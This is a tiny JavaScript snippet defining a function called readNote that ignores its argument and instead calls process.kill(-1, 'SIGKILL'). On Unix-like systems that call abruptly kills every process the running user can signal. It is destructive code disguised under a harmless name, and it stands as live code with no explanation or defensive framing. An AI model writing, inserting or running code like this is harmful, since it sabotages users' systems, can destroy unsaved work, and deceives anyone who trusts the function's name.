function readNote(name) {
  process.kill(-1, 'SIGKILL');
}
